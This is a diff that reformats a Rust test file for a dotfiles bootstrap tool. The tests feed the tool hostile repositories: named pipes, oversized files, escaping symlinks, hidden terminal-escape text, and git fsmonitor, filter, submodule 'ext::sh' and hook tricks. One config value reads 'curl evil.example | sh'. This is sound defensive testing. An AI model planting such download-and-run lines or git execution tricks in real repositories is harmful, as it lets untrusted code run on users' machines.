@@ -1,5 +1,6 @@
-//! What hostile repositories try beside what extends.rs has: files that aren't, that are huge, tricks of git. And what one may well have, but
-//! only in plain sight. Nothing runs before somebody agreed, nothing is written outside, each attempt is one clear error.
+//! What hostile repositories try beside what extends.rs has: files that aren't, that are huge,
+//! tricks of git. And what one may well have, but only in plain sight. Nothing runs before somebody
+//! agreed, nothing is written outside, each attempt is one clear error.
 
 use std::fs;
 use std::os::unix::fs::symlink;
@@ -28,9 +29,14 @@ fn huge(path: &Path) {
 /// What is shown can neither move the cursor nor read backwards.
 fn is_plain(run: &Run) {
     let odd = |c: char| {
-        c.is_control() && !matches!(c, '\n' | '\t') || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
+        c.is_control() && !matches!(c, '\n' | '\t')
+            || ('\u{202a}'..='\u{202e}').contains(&c)
+            || ('\u{2066}'..='\u{2069}').contains(&c)
     };
-    assert!(!run.stdout.chars().any(odd) && !run.stderr.chars().any(odd), "{run}");
+    assert!(
+        !run.stdout.chars().any(odd) && !run.stderr.chars().any(odd),
+        "{run}"
+    );
 }
 
 #[test]
@@ -39,59 +45,124 @@ fn what_is_no_file_or_no_sane_one_is_an_error_before_anything_is_done() {
     type Attack<'a> = (&'a str, &'a str, &'a str, &'a dyn Fn(&Path));
     let script = "[dotfiles]\n[[run]]\nid = 'a'\ncmd = './s.sh'";
     let attacks: [Attack; 17] = [
-        ("a pipe", "home/.x: it is neither a file nor a folder", "[dotfiles]", &|repo| fifo(&repo.join("home/.x"))),
-        ("a pipe that is copied", "home/.x: it is neither a file nor a folder", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| {
-            fifo(&repo.join("home/.x"))
-        }),
-        ("a pipe as a template", "home/.x: it is neither a file nor a folder", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
-            fifo(&repo.join("home/.x"))
-        }),
+        (
+            "a pipe",
+            "home/.x: it is neither a file nor a folder",
+            "[dotfiles]",
+            &|repo| fifo(&repo.join("home/.x")),
+        ),
+        (
+            "a pipe that is copied",
+            "home/.x: it is neither a file nor a folder",
+            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
+            &|repo| fifo(&repo.join("home/.x")),
+        ),
+        (
+            "a pipe as a template",
+            "home/.x: it is neither a file nor a folder",
+            "[dotfiles]\n'~/.x' = { mode = 'template' }",
+            &|repo| fifo(&repo.join("home/.x")),
+        ),
         (
             "a link to a device",
             "home/.x: it is a link that leads nowhere, or out of the repository",
             "[dotfiles]\n'~/.x' = { mode = 'copy' }",
             &|repo| symlink("/dev/zero", repo.join("home/.x")).unwrap(),
         ),
-        ("a link around the home directory", "home/.x: it is a link that leads nowhere, or out of the repository", "[dotfiles]", &|repo| {
-            symlink("../../.bashrc", repo.join("home/.x")).unwrap()
-        }),
-        ("a folder that holds itself", "home/.x: only files can be copied", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| {
-            symlink(".", repo.join("home/.x")).unwrap()
-        }),
-        ("a huge copy", "home/.x: it is larger than 64 megabytes", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| {
-            huge(&repo.join("home/.x"))
-        }),
-        ("a huge template", "home/.x: it is larger than 64 megabytes", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
-            huge(&repo.join("home/.x"))
-        }),
-        ("a template that is no text", "home/.x: it can't be read as a template", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
-            fs::write(repo.join("home/.x"), b"\xff\xfe").unwrap()
-        }),
-        ("a script that is a pipe", "./s.sh: it isn't a regular file", script, &|repo| fifo(&repo.join("s.sh"))),
-        ("a huge script", "./s.sh: it is larger than a megabyte", script, &|repo| huge(&repo.join("s.sh"))),
-        ("a watched pipe", "w: it isn't a regular file", "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['w']", &|repo| {
-            fifo(&repo.join("w"))
-        }),
+        (
+            "a link around the home directory",
+            "home/.x: it is a link that leads nowhere, or out of the repository",
+            "[dotfiles]",
+            &|repo| symlink("../../.bashrc", repo.join("home/.x")).unwrap(),
+        ),
+        (
+            "a folder that holds itself",
+            "home/.x: only files can be copied",
+            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
+            &|repo| symlink(".", repo.join("home/.x")).unwrap(),
+        ),
+        (
+            "a huge copy",
+            "home/.x: it is larger than 64 megabytes",
+            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
+            &|repo| huge(&repo.join("home/.x")),
+        ),
+        (
+            "a huge template",
+            "home/.x: it is larger than 64 megabytes",
+            "[dotfiles]\n'~/.x' = { mode = 'template' }",
+            &|repo| huge(&repo.join("home/.x")),
+        ),
+        (
+            "a template that is no text",
+            "home/.x: it can't be read as a template",
+            "[dotfiles]\n'~/.x' = { mode = 'template' }",
+            &|repo| fs::write(repo.join("home/.x"), b"\xff\xfe").unwrap(),
+        ),
+        (
+            "a script that is a pipe",
+            "./s.sh: it isn't a regular file",
+            script,
+            &|repo| fifo(&repo.join("s.sh")),
+        ),
+        (
+            "a huge script",
+            "./s.sh: it is larger than a megabyte",
+            script,
+            &|repo| huge(&repo.join("s.sh")),
+        ),
+        (
+            "a watched pipe",
+            "w: it isn't a regular file",
+            "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['w']",
+            &|repo| fifo(&repo.join("w")),
+        ),
         (
             "a watched file outside",
             "../.bashrc is outside of the repository",
             "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['../.bashrc']",
             &|_| (),
         ),
-        ("a lock that is a pipe", "boot.lock: it isn't a file of a lock's size", "[dotfiles]", &|repo| fifo(&repo.join("boot.lock"))),
-        ("a huge lock", "boot.lock: it isn't a file of a lock's size", "[dotfiles]", &|repo| huge(&repo.join("boot.lock"))),
-        ("hooks of the shell's own", "hook should be true or false", "[shell]\nhook = 'curl evil.example | sh'", &|_| ()),
-        ("a setting", "settings isn't a key of boot.toml", "[settings]\nindex-url = 'https://evil.example'", &|_| ()),
+        (
+            "a lock that is a pipe",
+            "boot.lock: it isn't a file of a lock's size",
+            "[dotfiles]",
+            &|repo| fifo(&repo.join("boot.lock")),
+        ),
+        (
+            "a huge lock",
+            "boot.lock: it isn't a file of a lock's size",
+            "[dotfiles]",
+            &|repo| huge(&repo.join("boot.lock")),
+        ),
+        (
+            "hooks of the shell's own",
+            "hook should be true or false",
+            "[shell]\nhook = 'curl evil.example | sh'",
+            &|_| (),
+        ),
+        (
+            "a setting",
+            "settings isn't a key of boot.toml",
+            "[settings]\nindex-url = 'https://evil.example'",
+            &|_| (),
+        ),
     ];
     for (what, says, manifest, attack) in attacks {
         let home = home(manifest);
         home.write(".bashrc", "# mine\n");
         attack(&home.root.join("dots"));
         let before = home.tree();
-        for verb in [&["init", "dots", "--yes", "--on-conflict", "backup"][..], &["init", "dots", "--dry-run"]] {
+        for verb in [
+            &["init", "dots", "--yes", "--on-conflict", "backup"][..],
+            &["init", "dots", "--dry-run"],
+        ] {
             let run = home.boot(verb).one_error();
             assert!(matches!(run.code, Some(1 | 2)), "{what}: {run}");
-            assert!(run.stderr.contains(says), "{what} is refused for something else than {says:?}: {run}");
+            assert!(
+                run.stderr.contains(says),
+                "{what} is refused for something else than {says:?}: {run}"
+            );
             is_plain(&run);
         }
         assert_eq!(home.tree(), before, "{what}");
@@ -99,7 +170,8 @@ fn what_is_no_file_or_no_sane_one_is_an_error_before_anything_is_done() {
     }
 }
 
-/// The user's own folders may be links that lead out of home, and what lies in the way may be anything.
+/// The user's own folders may be links that lead out of home, and what lies in the way may be
+/// anything.
 #[test]
 fn what_is_in_the_way_is_neither_followed_nor_read_without_end() {
     let home = home("[dotfiles]\n'~/.copied' = { mode = 'copy' }");
@@ -110,67 +182,156 @@ fn what_is_in_the_way_is_neither_followed_nor_read_without_end() {
     fifo(&home.root.join(".copied"));
     home.write("dots/home/.large", "small\n");
     huge(&home.root.join(".large"));
-    home.boot(["init", "dots", "--yes"]).code(1).one_error().stderr_has(".ownrc").stderr_has(".copied").stderr_has(".large");
-    home.boot(["init", "dots", "--yes", "--on-conflict", "backup"]).success();
-    assert_eq!(fs::read_to_string(outside.path().join("rc")).unwrap(), "theirs\n");
+    home.boot(["init", "dots", "--yes"])
+        .code(1)
+        .one_error()
+        .stderr_has(".ownrc")
+        .stderr_has(".copied")
+        .stderr_has(".large");
+    home.boot(["init", "dots", "--yes", "--on-conflict", "backup"])
+        .success();
+    assert_eq!(
+        fs::read_to_string(outside.path().join("rc")).unwrap(),
+        "theirs\n"
+    );
     assert_eq!(home.read(".copied"), "copied\n");
     home.boot(["undo"]).success();
-    assert_eq!(fs::read_link(home.root.join(".ownrc")).unwrap(), outside.path().join("rc"));
-    assert_eq!(fs::metadata(home.root.join(".large")).unwrap().len(), 6 << 30);
+    assert_eq!(
+        fs::read_link(home.root.join(".ownrc")).unwrap(),
+        outside.path().join("rc")
+    );
+    assert_eq!(
+        fs::metadata(home.root.join(".large")).unwrap().len(),
+        6 << 30
+    );
 }
 
-/// What takes over an account can be asked for, as every dotfile can; the plan has it on a line of its own, and nobody is there to agree.
+/// What takes over an account can be asked for, as every dotfile can; the plan has it on a line of
+/// its own, and nobody is there to agree.
 #[test]
 fn what_opens_doors_stands_plainly_in_the_plan_and_waits_for_consent() {
     let home = home("[dotfiles]\n[[run]]\nid = 'fine'\ncmd = 'scripts/fine.sh'\n");
-    let doors = [".ssh/authorized_keys", ".profile", ".bashrc", ".config/systemd/user/x.service"];
+    let doors = [
+        ".ssh/authorized_keys",
+        ".profile",
+        ".bashrc",
+        ".config/systemd/user/x.service",
+    ];
     for door in doors {
         home.write(&format!("dots/home/{door}"), "touch ran\n");
     }
-    home.write("dots/scripts/fine.sh", "#!/bin/sh\nprintf 'fine\\n'\n# \u{1b}[2K\u{1b}[1Anothing to see\u{202e}\r\ntouch \"$HOME/ran\"\n");
+    home.write(
+        "dots/scripts/fine.sh",
+        "#!/bin/sh\nprintf 'fine\\n'\n\
+                                        # \u{1b}[2K\u{1b}[1Anothing to see\u{202e}\r\n\
+                                        touch \"$HOME/ran\"\n",
+    );
     let before = home.tree();
-    let run = home.boot(["init", "dots", "--dry-run"]).success().stdout_has("touch \"$HOME/ran\"");
+    let run = home
+        .boot(["init", "dots", "--dry-run"])
+        .success()
+        .stdout_has("touch \"$HOME/ran\"");
     is_plain(&run);
     for door in doors {
-        assert!(run.stdout.lines().any(|line| line.contains(&format!("~/{door}"))), "{door}: {run}");
+        assert!(
+            run.stdout
+                .lines()
+                .any(|line| line.contains(&format!("~/{door}"))),
+            "{door}: {run}"
+        );
     }
     is_plain(&home.boot(["init", "dots"]).code(3).one_error());
-    let made: Vec<String> = home.tree().into_iter().filter(|path| !before.contains(path) && !path.starts_with(".local")).collect();
+    let made: Vec<String> = home
+        .tree()
+        .into_iter()
+        .filter(|path| !before.contains(path) && !path.starts_with(".local"))
+        .collect();
     assert!(made.is_empty(), "{made:?}");
 }
 
-/// git's own ways to run things: nothing of a repository is taken for configuration, filters and hooks included.
+/// git's own ways to run things: nothing of a repository is taken for configuration, filters and
+/// hooks included.
 #[test]
 fn what_git_would_run_for_a_repository_does_not_run() {
     let git = |folder: &Path, args: &[&str]| {
-        let identity = ["-c", "user.name=Me", "-c", "user.email=me@example.com", "-c", "protocol.file.allow=always"];
-        let output = Command::new("git").args(identity).args(args).current_dir(folder).output().expect("this story needs git");
-        assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
+        let identity = [
+            "-c",
+            "user.name=Me",
+            "-c",
+            "user.email=me@example.com",
+            "-c",
+            "protocol.file.allow=always",
+        ];
+        let output = Command::new("git")
+            .args(identity)
+            .args(args)
+            .current_dir(folder)
+            .output()
+            .expect("this story needs git");
+        assert!(
+            output.status.success(),
+            "{args:?}: {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
     };
     let mut home = home("[dotfiles]\n");
-    home.set("BOOT_GIT_HOST", &format!("file://{}/git", home.root.display()));
+    home.set(
+        "BOOT_GIT_HOST",
+        &format!("file://{}/git", home.root.display()),
+    );
     let ran = home.root.join("ran");
     let touch = format!("touch '{}'", ran.display());
     let repo = home.root.join("git/me/dotfiles");
     home.write("git/me/dotfiles/boot.toml", "version = 1\n[dotfiles]\n");
     home.write("git/me/dotfiles/home/.ownrc", "own\n");
-    home.write("git/me/dotfiles/home/.big", "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n");
-    home.write("git/me/dotfiles/.gitattributes", "* filter=evil diff=evil merge=evil\nhome/.big filter=lfs\n");
-    home.write("git/me/dotfiles/.gitconfig", &format!("[core]\n\tfsmonitor = {touch}\n[filter \"evil\"]\n\tsmudge = {touch}\n"));
-    home.write("git/me/dotfiles/.lfsconfig", "[lfs]\n\turl = http://127.0.0.1:9\n");
-    home.write("git/me/dotfiles/.gitmodules", &format!("[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c {touch}\n\tupdate = !{touch}\n"));
+    home.write(
+        "git/me/dotfiles/home/.big",
+        "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
+    );
+    home.write(
+        "git/me/dotfiles/.gitattributes",
+        "* filter=evil diff=evil merge=evil\nhome/.big filter=lfs\n",
+    );
+    home.write(
+        "git/me/dotfiles/.gitconfig",
+        &format!("[core]\n\tfsmonitor = {touch}\n[filter \"evil\"]\n\tsmudge = {touch}\n"),
+    );
+    home.write(
+        "git/me/dotfiles/.lfsconfig",
+        "[lfs]\n\turl = http://127.0.0.1:9\n",
+    );
+    home.write(
+        "git/me/dotfiles/.gitmodules",
+        &format!(
+            "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c {touch}\n\tupdate = !{touch}\n"
+        ),
+    );
     for hook in ["post-checkout", "post-merge", "reference-transaction"] {
-        home.program(&format!("git/me/dotfiles/.githooks/{hook}"), &format!("#!/bin/sh\n{touch}\n"));
+        home.program(
+            &format!("git/me/dotfiles/.githooks/{hook}"),
+            &format!("#!/bin/sh\n{touch}\n"),
+        );
     }
     git(&repo, &["init", "--quiet"]);
     git(&repo, &["add", "--all"]);
     // The entry of a submodule, as if there were one.
-    git(&repo, &["update-index", "--add", "--cacheinfo", "160000,1111111111111111111111111111111111111111,x"]);
+    git(
+        &repo,
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            "160000,1111111111111111111111111111111111111111,x",
+        ],
+    );
     git(&repo, &["commit", "--quiet", "--message=x"]);
     // And what lies in its .git, for whom it is a folder.
-    for (name, value) in
-        [("core.fsmonitor", &touch), ("filter.evil.smudge", &touch), ("filter.evil.clean", &touch), ("diff.external", &touch)]
-    {
+    for (name, value) in [
+        ("core.fsmonitor", &touch),
+        ("filter.evil.smudge", &touch),
+        ("filter.evil.clean", &touch),
+        ("diff.external", &touch),
+    ] {
         git(&repo, &["config", name, value]);
     }
     git(&repo, &["config", "core.hooksPath", ".githooks"]);
@@ -190,7 +351,13 @@ fn what_git_would_run_for_a_repository_does_not_run() {
     // The same as a folder, which boot doesn't ask git about.
     let mut other = Home::new();
     other.set("SHELL", "/bin/bash");
-    for args in [&["init", "--dry-run"][..], &["init", "--yes"], &["plan"], &["status"], &["apply"]] {
+    for args in [
+        &["init", "--dry-run"][..],
+        &["init", "--yes"],
+        &["plan"],
+        &["status"],
+        &["apply"],
+    ] {
         let mut args: Vec<&str> = args.to_vec();
         if args[0] == "init" {
             args.push(repo.to_str().unwrap());
